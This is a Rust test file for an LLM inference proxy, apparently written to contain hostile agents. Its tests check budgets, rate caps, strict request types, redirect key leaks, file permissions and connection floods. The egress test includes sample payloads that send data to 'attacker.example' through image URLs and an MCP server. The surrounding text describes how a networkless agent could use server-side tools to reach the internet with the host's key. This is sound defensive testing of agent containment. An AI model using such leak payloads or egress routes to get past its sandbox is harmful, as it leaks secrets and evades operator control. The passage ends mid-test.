//! inference-proxy against a hostile agent, a hostile local user and a hostile upstream
//! (issue 12, items 4–6): each test plays the attacker against the real
//! `inference-proxy` binary and the local fake upstream that speaks the real wire
//! format.
//!
//! | test | attacker | promise |
//! |---|---|---|
//! | `concurrent_requests_never_overrun_a_daily_budget` | agent | the ledger never exceeds a token budget |
//! | `an_openai_request_without_a_maximum_is_bounded_under_a_budget` | agent | no unbounded output under a budget |
//! | `an_agent_cannot_hold_more_requests_than_its_in_flight_cap` | agent | 429 past the per-agent in-flight cap |
//! | `count_tokens_is_rate_limited_and_recorded` | agent | `count_tokens` obeys the RPM limit and is audited |
//! | `non_boolean_stream_and_bad_max_tokens_are_refused` | agent | strict request types, nothing forwarded |
//! | `beta_headers_and_server_tools_need_the_agent_allowlist` | agent | no egress through the provider unless allowed |
//! | `an_upstream_redirect_never_receives_the_host_key` | upstream | the host key never follows a redirect |
//! | `ledger_and_audit_are_unreadable_to_another_uid` | local user | 0700 directory, 0600 files |
//! | `an_idle_connection_flood_does_not_starve_a_real_request` | agent | bounded connections, fds never run out |

use std::io::{Read, Write};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use clawos_e2e::fake_llm::{FakeAnthropic, redirector};
use clawos_e2e::{KillOnDrop, port, runtime, spawn_daemon};
use serde_json::{Value, json};

const HOST_KEY: &str = "sk-ant-host-only-attacks-93be";
const OPENAI_HOST_KEY: &str = "sk-openai-host-only-attacks-1d07";

/// A running proxy with static agent tokens `tok-<agent>` for each agent named.
struct Proxy {
    child: Option<KillOnDrop>,
    url: String,
    state: PathBuf,
    _work: tempfile::TempDir,
}

impl Proxy {
    fn start(agents: &[&str], upstreams: &Value, env: &[(&str, &str)], args: &[&str]) -> Self {
        let work = tempfile::tempdir().expect("tmp");
        let state = work.path().join("state");
        std::fs::create_dir_all(&state).expect("state");
        Self::start_in(work, state, agents, upstreams, env, args)
    }

    fn start_in(
        work: tempfile::TempDir,
        state: PathBuf,
        agents: &[&str],
        upstreams: &Value,
        env: &[(&str, &str)],
        args: &[&str],
    ) -> Self {
        let tokens = work.path().join("tokens.json");
        let map: serde_json::Map<String, Value> = agents
            .iter()
            .map(|a| (format!("tok-{a}"), json!(a)))
            .collect();
        std::fs::write(&tokens, Value::Object(map).to_string()).expect("tokens");
        let ups = work.path().join("upstreams.json");
        std::fs::write(&ups, upstreams.to_string()).expect("upstreams");
        let px_port = port();
        let addr = format!("127.0.0.1:{px_port}");
        let mut argv = vec![
            "--addr",
            &addr,
            "--state-dir",
            state.to_str().expect("utf8"),
        ];
        argv.extend_from_slice(args);
        let mut envs = vec![
            ("ANTHROPIC_API_KEY", HOST_KEY),
            ("OPENAI_API_KEY", OPENAI_HOST_KEY),
            ("CLAWOS_PROXY_UPSTREAMS", ups.to_str().expect("utf8")),
            ("CLAWOS_PROXY_STATIC_TOKENS", tokens.to_str().expect("utf8")),
            ("CLAWOS_PROXY_INSECURE_DEV_TOKENS", "1"),
        ];
        envs.extend_from_slice(env);
        let child = spawn_daemon(
            "inference-proxy",
            &argv,
            &envs,
            &work.path().join("proxy.log"),
            px_port,
        )
        .expect("inference-proxy");
        Self {
            child: Some(KillOnDrop(child)),
            url: format!("http://127.0.0.1:{px_port}"),
            state,
            _work: work,
        }
    }

    /// SIGINT and wait: the ledger writer drains its queue before the process exits.
    fn stop(&mut self) {
        if let Some(mut c) = self.child.take() {
            let _ = Command::new("kill")
                .args(["-INT", &c.0.id().to_string()])
                .status();
            let _ = c.0.wait();
        }
    }

    fn audit(&self) -> Vec<Value> {
        std::fs::read_to_string(self.state.join("proxy/audit.jsonl"))
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str(l).expect("audit line"))
            .collect()
    }

    fn ledger(&self) -> rusqlite::Connection {
        rusqlite::Connection::open(self.state.join("proxy/ledger.db")).expect("ledger")
    }
}

fn anthropic_upstreams(url: &str) -> Value {
    json!([{"name": "anthropic", "api": "anthropic", "base_url": url, "api_key_env": "ANTHROPIC_API_KEY", "models": ["claude-*"]}])
}

fn both_upstreams(anthropic: &str, openai: &str) -> Value {
    json!([
        {"name": "anthropic", "api": "anthropic", "base_url": anthropic, "api_key_env": "ANTHROPIC_API_KEY", "models": ["claude-*"]},
        {"name": "vllm", "api": "openai", "base_url": openai, "api_key_env": "OPENAI_API_KEY", "models": ["gpt-*"]},
    ])
}

/// One call: (status, body as JSON or Null).
async fn post(
    http: &reqwest::Client,
    url: &str,
    token: &str,
    headers: &[(&str, &str)],
    body: &Value,
) -> (u16, Value) {
    let mut r = http
        .post(url)
        .header("x-api-key", token)
        .header("content-type", "application/json");
    for (k, v) in headers {
        r = r.header(*k, *v);
    }
    let r = r.body(body.to_string()).send().await.expect("send");
    let status = r.status().as_u16();
    let text = r.text().await.unwrap_or_default();
    // A stream is not JSON; its body does not matter here.
    (status, serde_json::from_str(&text).unwrap_or(Value::Null))
}

/// The Anthropic error shape, with its `error.type`.
fn assert_anthropic_error(v: &Value, kind: &str) {
    assert_eq!(v["type"], "error", "{v}");
    assert_eq!(v["error"]["type"], kind, "{v}");
    assert!(v["error"]["message"].is_string(), "{v}");
}

/// A prompt of `n` words: the fake upstream counts `n` input tokens.
fn words(n: usize) -> String {
    (0..n).map(|i| format!("w{i} ")).collect()
}

/// Hostile agent: 40 requests at once against a 1,000-token daily budget, each
/// costing 104 tokens. Charged after the fact, all 40 pass the check (4,160 tokens);
/// reserved before forwarding, the ledger can never pass 1,000.
#[test]
fn concurrent_requests_never_overrun_a_daily_budget() {
    let upstream = FakeAnthropic::start(HOST_KEY);
    let mut px = Proxy::start(
        &["agent-a"],
        &anthropic_upstreams(&upstream.url),
        &[
            ("CLAWOS_PROXY_TOKENS_PER_DAY", "1000"),
            // The reservation, not the in-flight cap, is what this test attacks.
            ("CLAWOS_PROXY_MAX_IN_FLIGHT", "64"),
        ],
        &["--rpm", "100000"],
    );
    let rt = runtime();
    let url = format!("{}/v1/messages", px.url);
    let prompt = words(100);
    let statuses: Vec<(u16, Value)> = rt.block_on(async {
        let tasks: Vec<_> = (0..40)
            .map(|i| {
                let (url, prompt) = (url.clone(), prompt.clone());
                tokio::spawn(async move {
                    let body = json!({"model": "claude-delay-400", "max_tokens": 8, "stream": i % 2 == 0,
                        "messages": [{"role": "user", "content": prompt}]});
                    post(&reqwest::Client::new(), &url, "tok-agent-a", &[], &body).await
                })
            })
            .collect();
        let mut out = Vec::new();
        for t in tasks {
            out.push(t.await.expect("client"));
        }
        out
    });
    let ok = statuses.iter().filter(|(s, _)| *s == 200).count();
    // Then one at a time until refused: the spend climbs, never past the budget.
    let http = reqwest::Client::new();
    let mut last = 200;
    for _ in 0..20 {
        let body = json!({"model": "claude-test", "max_tokens": 8, "messages": [{"role": "user", "content": prompt}]});
        last = rt.block_on(post(&http, &url, "tok-agent-a", &[], &body)).0;
        if last != 200 {
            break;
        }
    }
    px.stop();
    let (rows, spent): (u64, u64) = px
        .ledger()
        .query_row(
            "SELECT COUNT(*), COALESCE(SUM(input_tokens + output_tokens + cache_creation_input_tokens + cache_read_input_tokens), 0) FROM requests WHERE agent = 'agent-a'",
            [],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .expect("ledger");
    eprintln!(
        "budget 1000: {ok} of 40 concurrent requests admitted; {rows} charged {spent} tokens"
    );
    assert!(
        spent <= 1000,
        "the ledger charged {spent} tokens against a budget of 1000"
    );
    assert_eq!(
        spent,
        rows * 104,
        "each request charged what the upstream reported"
    );
    for (s, v) in &statuses {
        if *s != 200 {
            assert_eq!(*s, 429, "{v}");
            assert_anthropic_error(v, "rate_limit_error");
        }
    }
    assert!(ok >= 1, "at least one request fits the budget");
    assert_eq!(last, 429, "the budget ran out");
    assert_eq!(
        upstream.seen().2 as u64,
        rows,
        "only admitted requests went upstream"
    );
}

/// Hostile agent on the OpenAI API, which makes the output limit optional: with no
/// `max_tokens` the answer, and its cost, would be unbounded, and `n` multiplies it.
/// Under a budget the proxy sets `max_tokens` (`CLAWOS_PROXY_DEFAULT_MAX_TOKENS`) and
/// reserves `n` times it.
#[test]
fn an_openai_request_without_a_maximum_is_bounded_under_a_budget() {
    let upstream = FakeAnthropic::start(HOST_KEY);
    let openai = FakeAnthropic::start(OPENAI_HOST_KEY);
    let px = Proxy::start(
        &["agent-a"],
        &both_upstreams(&upstream.url, &openai.url),
        &[
            ("CLAWOS_PROXY_TOKENS_PER_DAY", "1000"),
            ("CLAWOS_PROXY_DEFAULT_MAX_TOKENS", "50"),
        ],
        &[],
    );
    let rt = runtime();
    let http = reqwest::Client::new();
    let chat = format!("{}/v1/chat/completions", px.url);
    let msg = json!([{"role": "user", "content": "a b c"}]);
    let (s, v) = rt.block_on(post(
        &http,
        &chat,
        "tok-agent-a",
        &[],
        &json!({"model": "gpt-test", "messages": msg}),
    ));
    assert_eq!(s, 200, "{v}");
    assert_eq!(
        openai.last_body()["max_tokens"],
        50,
        "the upstream was given a maximum: {}",
        openai.last_body()
    );
    // 30 choices of 50 tokens cannot fit a 1,000-token budget at all.
    let (s, v) = rt.block_on(post(
        &http,
        &chat,
        "tok-agent-a",
        &[],
        &json!({"model": "gpt-test", "n": 30, "max_tokens": 50, "messages": msg}),
    ));
    assert_eq!(s, 400, "{v}");
    assert!(
        v["error"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("token budget")),
        "{v}"
    );
    assert_eq!(openai.seen().2, 1);
}

/// Hostile agent: 20 slow requests at once. Only the in-flight cap (default 8) get
/// through; the others are refused at once with a 429 in Anthropic's shape, and the
/// slots come back when the requests finish.
#[test]
fn an_agent_cannot_hold_more_requests_than_its_in_flight_cap() {
    let upstream = FakeAnthropic::start(HOST_KEY);
    let px = Proxy::start(
        &["agent-a", "agent-b"],
        &anthropic_upstreams(&upstream.url),
        &[],
        &["--rpm", "100000"],
    );
    let rt = runtime();
    let url = format!("{}/v1/messages", px.url);
    // Each request is held upstream far longer than sending all twenty takes, even on a
    // loaded machine: none ends (and frees its slot) before the last has arrived. The
    // clients are made first, so their setup is not in that time.
    let body = json!({"model": "claude-delay-4000", "max_tokens": 8, "messages": [{"role": "user", "content": "a b"}]});
    let clients: Vec<reqwest::Client> = (0..20).map(|_| reqwest::Client::new()).collect();
    let (results, other) = rt.block_on(async {
        let tasks: Vec<_> = clients
            .into_iter()
            .map(|client| {
                let (url, body) = (url.clone(), body.clone());
                tokio::spawn(async move { post(&client, &url, "tok-agent-a", &[], &body).await })
            })
            .collect();
        // Another agent is not affected by agent-a's cap, once the cap is full.
        let full = std::time::Instant::now();
        while upstream.seen().2 < 8 {
            assert!(
                full.elapsed() < Duration::from_secs(30),
                "agent-a's first 8 requests did not reach the upstream"
            );
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        let fast = json!({"model": "claude-test", "max_tokens": 8, "messages": [{"role": "user", "content": "a b"}]});
        let other = post(&reqwest::Client::new(), &url, "tok-agent-b", &[], &fast).await;
        let mut out = Vec::new();
        for t in tasks {
            out.push(t.await.expect("client"));
        }
        (out, other)
    });
    assert_eq!(other.0, 200, "{}", other.1);
    let ok = results.iter().filter(|(s, _)| *s == 200).count();
    for (s, v) in &results {
        if *s != 200 {
            assert_eq!(*s, 429, "{v}");
            assert_anthropic_error(v, "rate_limit_error");
            assert!(
                v["error"]["message"]
                    .as_str()
                    .is_some_and(|m| m.contains("in flight")),
                "{v}"
            );
        }
    }
    assert_eq!(ok, 8, "exactly the default in-flight cap got through");
    // The slots are released when the requests end.
    let fast = json!({"model": "claude-test", "max_tokens": 8, "messages": [{"role": "user", "content": "a b"}]});
    let again = rt.block_on(post(
        &reqwest::Client::new(),
        &url,
        "tok-agent-a",
        &[],
        &fast,
    ));
    assert_eq!(again.0, 200, "{}", again.1);
}

/// Hostile agent: `count_tokens` used to be unlimited and unrecorded. With an RPM of
/// 5, eight calls get five answers and three 429s, and the five are in the ledger
/// and the audit with their kind.
#[test]
fn count_tokens_is_rate_limited_and_recorded() {
    let upstream = FakeAnthropic::start(HOST_KEY);
    let mut px = Proxy::start(
        &["agent-a"],
        &anthropic_upstreams(&upstream.url),
        &[],
        &["--rpm", "5"],
    );
    let rt = runtime();
    let http = reqwest::Client::new();
    let url = format!("{}/v1/messages/count_tokens", px.url);
    let body =
        json!({"model": "claude-test", "messages": [{"role": "user", "content": "one two three"}]});
    let mut statuses = Vec::new();
    for _ in 0..8 {
        let (s, v) = rt.block_on(post(&http, &url, "tok-agent-a", &[], &body));
        if s == 200 {
            assert_eq!(v, json!({"input_tokens": 3}));
        } else {
            assert_anthropic_error(&v, "rate_limit_error");
        }
        statuses.push(s);
    }
    assert_eq!(
        statuses.iter().filter(|s| **s == 429).count(),
        3,
        "{statuses:?}"
    );
    assert_eq!(upstream.count_tokens_requests(), 5);
    px.stop();
    let audit = px.audit();
    let counted: Vec<&Value> = audit
        .iter()
        .filter(|l| l["kind"] == "count_tokens")
        .collect();
    assert_eq!(counted.len(), 5, "{audit:?}");
    assert!(
        counted
            .iter()
            .all(|l| l["agent"] == "agent-a" && l["status"] == 200),
        "{counted:?}"
    );
    let rows: u64 = px
        .ledger()
        .query_row(
            "SELECT COUNT(*) FROM requests WHERE kind = 'count_tokens' AND agent = 'agent-a'",
            [],
            |r| r.get(0),
        )
        .expect("ledger has a kind column");
    assert_eq!(rows, 5);
}

/// Hostile agent: a `stream` that is not a boolean (`"yes"`, `1`, `null`) was read as
/// "not streaming" while the upstream streamed, and charged 0 tokens; a `max_tokens`
/// that is not a positive integer bounds nothing. All are refused with 400 in the
/// caller's API shape, and nothing reaches the upstream.
#[test]
fn non_boolean_stream_and_bad_max_tokens_are_refused() {
    let upstream = FakeAnthropic::start(HOST_KEY);
    let openai = FakeAnthropic::start(OPENAI_HOST_KEY);
    let px = Proxy::start(
        &["agent-a"],
        &both_upstreams(&upstream.url, &openai.url),
        &[],
        &["--rpm", "100000"],
    );
    let rt = runtime();
    let http = reqwest::Client::new();
    let messages = format!("{}/v1/messages", px.url);
    let chat = format!("{}/v1/chat/completions", px.url);
    let msg = json!([{"role": "user", "content": "a b c"}]);
    let bad_anthropic = [
        json!({"model": "claude-test", "max_tokens": 8, "stream": "yes", "messages": msg}),
        json!({"model": "claude-test", "max_tokens": 8, "stream": 1, "messages": msg}),
        json!({"model": "claude-test", "max_tokens": 8, "stream": null, "messages": msg}),
        json!({"model": "claude-test", "max_tokens": 8, "stream": {"on": true}, "messages": msg}),
        json!({"model": "claude-test", "max_tokens": 0, "messages": msg}),
        json!({"model": "claude-test", "max_tokens": -5, "messages": msg}),
        json!({"model": "claude-test", "max_tokens": "8", "messages": msg}),
        json!({"model": "claude-test", "max_tokens": 8.5, "messages": msg}),
        json!({"model": "claude-test", "messages": msg}),
    ];
    for b in &bad_anthropic {
        let (s, v) = rt.block_on(post(&http, &messages, "tok-agent-a", &[], b));
        assert_eq!(s, 400, "{b} -> {v}");
        assert_anthropic_error(&v, "invalid_request_error");
        let m = v["error"]["message"].as_str().unwrap_or("");
        assert!(
            m.contains("stream") || m.contains("max_tokens"),
            "{b} -> {v}"
        );
    }
    let bad_openai = [
        json!({"model": "gpt-test", "stream": "yes", "messages": msg}),
        json!({"model": "gpt-test", "stream": 1, "messages": msg}),
        json!({"model": "gpt-test", "max_tokens": 0, "messages": msg}),
        json!({"model": "gpt-test", "max_completion_tokens": "9", "messages": msg}),
        json!({"model": "gpt-test", "n": 0, "messages": msg}),
    ];
    for b in &bad_openai {
        let (s, v) = rt.block_on(post(&http, &chat, "tok-agent-a", &[], b));
        assert_eq!(s, 400, "{b} -> {v}");
        assert_eq!(v["error"]["type"], "invalid_request_error", "{b} -> {v}");
        assert!(v.get("type").is_none(), "OpenAI's shape: {v}");
    }
    // A key given twice: parsers disagree on which one wins, so the proxy must not
    // check one and forward the other.
    let dup = r#"{"model":"claude-test","max_tokens":8,"stream":false,"stream":"yes","messages":[{"role":"user","content":"a"}]}"#;
    let r = rt
        .block_on(
            http.post(&messages)
                .header("x-api-key", "tok-agent-a")
                .body(dup)
                .send(),
        )
        .expect("send");
    assert_eq!(r.status().as_u16(), 400);
    let v: Value = rt.block_on(r.json()).expect("json");
    assert_anthropic_error(&v, "invalid_request_error");
    assert!(
        v["error"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("duplicate")),
        "{v}"
    );
    assert_eq!(
        upstream.seen().2,
        0,
        "nothing malformed reached the upstream"
    );
    assert_eq!(openai.seen().2, 0, "nothing malformed reached the upstream");
    // Well-typed requests still pass.
    let good = json!({"model": "claude-test", "max_tokens": 8, "stream": false, "messages": msg});
    assert_eq!(
        rt.block_on(post(&http, &messages, "tok-agent-a", &[], &good))
            .0,
        200
    );
}

/// Hostile agent in a VM with no network: the provider's server-side tools (web
/// search and fetch, code execution, MCP connectors, URL sources) and beta features
/// would reach the internet for it, with the host's key. Nothing of that is
/// forwarded unless the operator allowed it for that agent; what is allowed is
/// counted in the ledger.
#[test]
fn beta_headers_and_server_tools_need_the_agent_allowlist() {
    let upstream = FakeAnthropic::start(HOST_KEY);
    let openai = FakeAnthropic::start(OPENAI_HOST_KEY);
    let work = tempfile::tempdir().expect("tmp");
    let state = work.path().join("state");
    std::fs::create_dir_all(&state).expect("state");
    let policy = work.path().join("policy.json");
    std::fs::write(
        &policy,
        json!({"agents": {"agent-web": {"anthropic_beta": ["web-fetch-2025-09-10"], "server_tools": ["web_search", "web_fetch"]}}})
            .to_string(),
    )
    .expect("policy");
    let policy_s = policy.to_str().expect("utf8").to_owned();
    let mut px = Proxy::start_in(
        work,
        state,
        &["agent-a", "agent-web"],
        &both_upstreams(&upstream.url, &openai.url),
        &[("CLAWOS_PROXY_AGENT_POLICY", &policy_s)],
        &["--rpm", "100000"],
    );
    let rt = runtime();
    let http = reqwest::Client::new();
    let messages = format!("{}/v1/messages", px.url);
    let count = format!("{}/v1/messages/count_tokens", px.url);
    let chat = format!("{}/v1/chat/completions", px.url);
    let msg = json!([{"role": "user", "content": "a b c"}]);
    let with = |extra: Value| {
        let mut b = json!({"model": "claude-test", "max_tokens": 8, "messages": msg});
        for (k, v) in extra.as_object().expect("object") {
            b[k] = v.clone();
        }
        b
    };
    let refused = |status: u16, v: &Value, names: &str| {
        assert_eq!(status, 403, "{names}: {v}");
        assert_anthropic_error(v, "permission_error");
        assert!(
            v["error"]["message"]
                .as_str()
                .is_some_and(|m| m.contains(names)),
            "the refusal names {names}: {v}"
        );
    };
    // agent-a: nothing allowed (the default).
    let (s, v) = rt.block_on(post(
        &http,
        &messages,
        "tok-agent-a",
        &[("anthropic-beta", "mcp-client-2025-04-04")],
        &with(json!({})),
    ));
    refused(s, &v, "mcp-client-2025-04-04");
    let server_side = [
        (
            json!({"tools": [{"type": "web_search_20250305", "name": "web_search"}]}),
            "web_search_20250305",
        ),
        (
            json!({"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}),
            "web_fetch_20250910",
        ),
        (
            json!({"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]}),
            "code_execution_20250825",
        ),
        (
            json!({"tools": [{"type": "tool_search_tool_regex_20251119", "name": "tool_search"}]}),
            "tool_search_tool_regex_20251119",
        ),
        (
            json!({"mcp_servers": [{"type": "url", "url": "https://attacker.example/mcp", "name": "x"}]}),
            "mcp_servers",
        ),
        (json!({"container": "container_011"}), "container"),
        (
            json!({"messages": [{"role": "user", "content": [
            {"type": "image", "source": {"type": "url", "url": "https://attacker.example/leak?secret=1"}}]}]}),
            "url",
        ),
        (
            json!({"messages": [{"role": "user", "content": [
            {"type": "document", "source": {"type": "file", "file_id": "file_0123"}}]}]}),
            "file",
        ),
    ];
    for (extra, names) in &server_side {
        let (s, v) = rt.block_on(post(
            &http,
            &messages,
            "tok-agent-a",
            &[],
            &with(extra.clone()),
        ));
        refused(s, &v, names);
        let mut ct = with(extra.clone());
        ct.as_object_mut().expect("object").remove("max_tokens");
        let (s, v) = rt.block_on(post(&http, &count, "tok-agent-a", &[], &ct));
        refused(s, &v, names);
    }
    // Client tools (executed by the agent itself) and plain custom tools pass.
    let client_tools = with(json!({"tools": [
        {"type": "bash_20250124", "name": "bash"},
        {"type": "text_editor_20250728", "name": "str_replace_based_edit_tool"},
        {"type": "computer_20250124", "name": "computer", "display_width_px": 1024, "display_height_px": 768},
        {"type": "custom", "name": "lookup", "input_schema": {"type": "object"}},
        {"name": "plain", "description": "d", "input_schema": {"type": "object"}},
    ]}));
    let (s, v) = rt.block_on(post(&http, &messages, "tok-agent-a", &[], &client_tools));
    assert_eq!(s, 200, "{v}");
    // The OpenAI-compatible endpoint: search options, non-function tools, URL images.
    for (extra, names) in [
        (json!({"web_search_options": {}}), "web_search_options"),
        (
            json!({"tools": [{"type": "web_search_preview"}]}),
            "web_search_preview",
        ),
        (
            json!({"messages": [{"role": "user", "content": [
            {"type": "image_url", "image_url": {"url": "https://attacker.example/leak?secret=1"}}]}]}),
            "url",
        ),
    ] {
        let mut b = json!({"model": "gpt-test", "messages": msg});
        for (k, v) in extra.as_object().expect("object") {
            b[k] = v.clone();
        }
        let (s, v) = rt.block_on(post(&http, &chat, "tok-agent-a", &[], &b));
        assert_eq!(s, 403, "{names}: {v}");
        assert!(
            v["error"]["message"]
                .as_str()
                .is_some_and(|m| m.contains(names)),
            "{v}"
        );
    }
    assert_eq!(
        upstream.seen().2,
        1,
        "only the client-tools request reached the upstream"
    );
    assert_eq!(upstream.count_tokens_requests(), 0);
    assert_eq!(openai.seen().2, 0);
    assert!(upstream.betas().is_empty(), "{:?}", upstream.betas());
    // agent-web: web search and its beta flag allowed; used searches are counted.
    let search = with(
        json!({"tools": [{"type": "web_search_20250305", "name": "web_search", "max_uses": 1}]}),
    );
    for stream in [false, true] {
        let mut b = search.clone();
        b["stream"] = json!(stream);
        let (s, v) = rt.block_on(post(
            &http,
            &messages,
            "tok-agent-web",
            &[("anthropic-beta", "web-fetch-2025-09-10")],
            &b,
        ));
        assert_eq!(s, 200, "{v}");
    }
    assert_eq!(upstream.betas(), ["web-fetch-2025-09-10"; 2]);
    // Still only what was allowed: another flag, another server tool.
    let (s, v) = rt.block_on(post(
        &http,
        &messages,
        "tok-agent-web",
        &[(
            "anthropic-beta",
            "web-fetch-2025-09-10,files-api-2025-04-14",
        )],
        &search,
    ));
    refused(s, &v, "files-api-2025-04-14");
    let (s, v) = rt.block_on(post(
        &http,
        &messages,
        "tok-agent-web",
        &[],
        &with(json!({"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]})),
    ));
    refused(s, &v, "code_execution_20250825");
    px.stop();
    let searches: u64 = px
        .ledger()
        .query_row(
            "SELECT COALESCE(SUM(server_tool_requests), 0) FROM requests WHERE agent = 'agent-web'",
            [],
            |r| r.get(0),
        )
        .expect("ledger has a server_tool_requests column");
    assert_eq!(searches, 2, "one search per request, JSON and stream");
    assert_eq!(
        px.audit()
            .iter()
            .filter(|l| l["server_tool_requests"] == 1)
            .count(),
        2
    );
}

/// Hostile upstream: answers every request with `307` to another server. A client
/// that follows redirects re-sends the request there, and reqwest strips
/// `Authorization` on a cross-host redirect but not `x-api-key`. The second server
/// must receive nothing; the agent gets a 502 in its API's shape; the ledger says why.
#[test]
fn an_upstream_redirect_never_receives_the_host_key() {
    let recorder = FakeAnthropic::start("the-recorder-accepts-nothing");
    let hostile = redirector(&recorder.url);
    let mut px = Proxy::start(
        &["agent-a"],
        &both_upstreams(&hostile, &hostile),
        &[],
        &["--rpm", "100000"],
    );
    let rt = runtime();
    let http = reqwest::Client::new();
    let msg = json!([{"role": "user", "content": "a b c"}]);
    let mut answers = Vec::new();
    for (path, body) in [
        (
            "/v1/messages",
            json!({"model": "claude-test", "max_tokens": 8, "messages": msg}),
        ),
        (
            "/v1/messages",
            json!({"model": "claude-test", "max_tokens": 8, "stream": true, "messages": msg}),
        ),
        (
            "/v1/messages/count_tokens",
            json!({"model": "claude-test", "messages": msg}),
        ),
        (
            "/v1/chat/completions",
            json!({"model": "gpt-test", "messages": msg}),
        ),
        (
            "/v1/chat/completions",
            json!({"model": "gpt-test", "stream": true, "messages": msg}),
        ),
    ] {
        let (s, v) = rt.block_on(post(
            &http,
            &format!("{}{path}", px.url),
            "tok-agent-a",
            &[],
            &body,
        ));
        answers.push((path, s, v));
    }
    let (keys, auths, n) = recorder.seen();
    assert!(
        keys.is_empty() && auths.is_empty() && n == 0 && recorder.count_tokens_requests() == 0,
        "the redirect target received credentials: x-api-key {keys:?}, authorization {auths:?}"
    );
    for (path, s, v) in &answers {
        assert_eq!(*s, 502, "{path}: {v}");
        if path.starts_with("/v1/messages") {
            assert_anthropic_error(v, "api_error");
        } else {
            assert!(v["error"]["message"].is_string(), "{v}");
        }
        assert!(
            v["error"]["message"]
                .as_str()
                .is_some_and(|m| m.contains("redirect")),
            "{v}"
        );
    }
    px.stop();
    let audit = px.audit();
    assert_eq!(audit.len(), 5, "{audit:?}");
    assert!(
        audit
            .iter()
            .all(|l| l["error"].as_str().is_some_and(|e| e.contains("redirect"))),
        "{audit:?}"
    );
}

/// Whether this process may switch to another uid (root), else says so loudly.
fn can_switch_uid(test: &str) -> bool {
    // SAFETY: geteuid has no preconditions.
    let root = unsafe { libc::geteuid() } == 0;
    if !root {
        clawos_e2e::skip(test, "needs root to read the files as uid 65534 (nobody)");
        return false;
    }
    if Command::new("setpriv").arg("--version").output().is_err() {
        clawos_e2e::skip(test, "setpriv (util-linux) missing");
        return false;
    }
    true
}

/// Reads `path` as uid/gid 65534 with no supplementary groups: whether it worked.
fn nobody_can_read(path: &Path) -> bool {
    Command::new("setpriv")
        .args([
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "--",
            "cat",
        ])
        .arg(path)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
}

fn mode(p: &Path) -> u32 {
    std::fs::metadata(p).expect("metadata").permissions().mode() & 0o777
}

/// Hostile local user: the ledger (who used which model, when, how much) and the
/// audit trail were world-readable. After start the proxy directory is 0700 and
/// every ledger and audit file 0600 (existing ones tightened), and uid 65534 reads
/// none of them even where the directory above is open to it.
#[test]
fn ledger_and_audit_are_unreadable_to_another_uid() {
    if !can_switch_uid("ledger_and_audit_are_unreadable_to_another_uid") {
        return;
    }
    let upstream = FakeAnthropic::start(HOST_KEY);
    let work = tempfile::tempdir().expect("tmp");
    let state = work.path().join("state");
    let dir = state.join("proxy");
    std::fs::create_dir_all(&dir).expect("state");
    // A state directory as an installer leaves it: open to everyone, with files from
    // an older proxy that were created world-readable.
    for d in [work.path(), state.as_path(), dir.as_path()] {
        std::fs::set_permissions(d, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    }
    for f in ["audit.jsonl", "audit.jsonl.1"] {
        std::fs::write(dir.join(f), "{}\n").expect("old audit");
        std::fs::set_permissions(dir.join(f), std::fs::Permissions::from_mode(0o644))
            .expect("chmod");
    }
    assert!(
        nobody_can_read(&dir.join("audit.jsonl.1")),
        "the setup is readable"
    );
    let mut px = Proxy::start_in(
        work,
        state,
        &["agent-a"],
        &anthropic_upstreams(&upstream.url),
        &[],
        &[],
    );
    let rt = runtime();
    let body = json!({"model": "claude-test", "max_tokens": 8, "messages": [{"role": "user", "content": "a b c"}]});
    let (s, _) = rt.block_on(post(
        &reqwest::Client::new(),
        &format!("{}/v1/messages", px.url),
        "tok-agent-a",
        &[],
        &body,
    ));
    assert_eq!(s, 200);
    std::thread::sleep(Duration::from_millis(200));
    let files = [
        "ledger.db",
        "ledger.db-wal",
        "ledger.db-shm",
        "audit.jsonl",
        "audit.jsonl.1",
        "admin.token",
    ];
    // SQLite removes the -wal and -shm files when the last connection closes.
    let check = |when: &str, files: &[&str]| {
        assert_eq!(mode(&dir), 0o700, "{when}: {}", dir.display());
        assert!(
            !nobody_can_read(&dir.join("audit.jsonl")),
            "{when}: uid 65534 read through the directory"
        );
        for f in files {
            let p = dir.join(f);
            assert!(p.exists(), "{when}: {f} exists");
            assert_eq!(mode(&p), 0o600, "{when}: {f}");
        }
        // Even with the directory opened again, the files themselves refuse.
        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).expect("chmod");
        for f in files {
            assert!(!nobody_can_read(&dir.join(f)), "{when}: uid 65534 read {f}");
        }
        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o700)).expect("chmod");
    };
    check("running", &files);
    px.stop();
    check(
        "stopped",
        &["ledger.db", "audit.jsonl", "audit.jsonl.1", "admin.token"],
    );
}

/// Raises this process's soft fd limit to `want` if it can; whether it has that many.
fn raise_own_fd_limit(want: u64) -> bool {
    let mut l = libc::rlimit {
        rlim_cur: 0,
        rlim_max: 0,
    };
    // SAFETY: `l` is a valid rlimit for the kernel to fill.
    if unsafe { libc::getrlimit(libc::RLIMIT_NOFILE, &mut l) } != 0 {
        return false;
    }
    if l.rlim_cur >= want {
        return true;
    }
    if l.rlim_max < want {
        return false;
    }
    l.rlim_cur = want;
    // SAFETY: `l` is a valid rlimit; raising the soft limit up to the hard one.
    unsafe { libc::setrlimit(libc::RLIMIT_NOFILE, &l) == 0 }
}

/// The proxy's `/metrics` text.
fn proxy_metrics(port: u16) -> String {
    clawos_e2e::metrics_text(&format!("http://127.0.0.1:{port}"))
}

/// Hostile agent: ~1,100 idle connections used to exhaust the proxy's file
/// descriptors (every other agent lost its LLM). The proxy runs with the common
/// service limit of 1,024 fds (so it holds at most (1,024 − 96) ÷ 2 = 464 client
/// connections); the attacker opens 1,500 connections and sends
/// nothing. A real request on a new connection still completes within a second,
/// and a connection that never sends a request is closed after the header timeout.
#[test]
fn an_idle_connection_flood_does_not_starve_a_real_request() {
    const FLOOD: usize = 1500;
    if !raise_own_fd_limit(FLOOD as u64 + 512) {
